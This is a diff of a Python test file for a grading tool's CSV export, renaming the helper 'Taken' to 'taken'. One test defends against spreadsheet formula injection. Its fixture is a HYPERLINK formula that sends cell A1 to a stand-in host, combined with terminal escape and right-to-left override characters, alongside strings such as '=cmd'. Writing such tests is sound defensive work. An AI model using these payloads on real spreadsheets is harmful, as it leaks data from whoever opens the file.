@@ -1,7 +1,7 @@
 import csv
 
 import pytest
-from attempt_makers import Taken, attempt
+from attempt_makers import attempt, taken
 
 from labkit.basics.errors import LabkitError
 from labkit.exercises.catalogue import exercises
@@ -72,7 +72,7 @@ def test_the_status_is_the_gravest(statuses, worst):
 
 
 def test_who_was_taken_in_and_is_not_graded_yet_has_a_row(written):
-    found = written([attempt("b\\u200b")], [Taken("b\u200b", user="8"), Taken("a", problems=("The zip is\nbroken.",))])
+    found = written([attempt("b\\u200b")], [taken("b\u200b", user="8"), taken("a", problems=("The zip is\nbroken.",))])
     assert [(row["submission"], row["user"], row["total"], row["status"]) for row in found] == [
         ("a", "101", "", "not graded"),
         ("b\\u200b", "8", "0", "passed"),
@@ -133,7 +133,7 @@ def test_no_text_becomes_a_formula(text, expected):
 def test_names_that_attack_stay_in_their_cells(written):
     evil = '=HYPERLINK("http://x?"&A1,"y")\n\x1b]0;t\x07\u202e","999'
     row = written(
-        [attempt("=cmd", student=evil, user="-5", remarks=("=1",))], [Taken("+x", evil, "@y", problems=("=2",))]
+        [attempt("=cmd", student=evil, user="-5", remarks=("=1",))], [taken("+x", evil, "@y", problems=("=2",))]
     )
     first, second = row
     assert first["submission"] == "'+x"
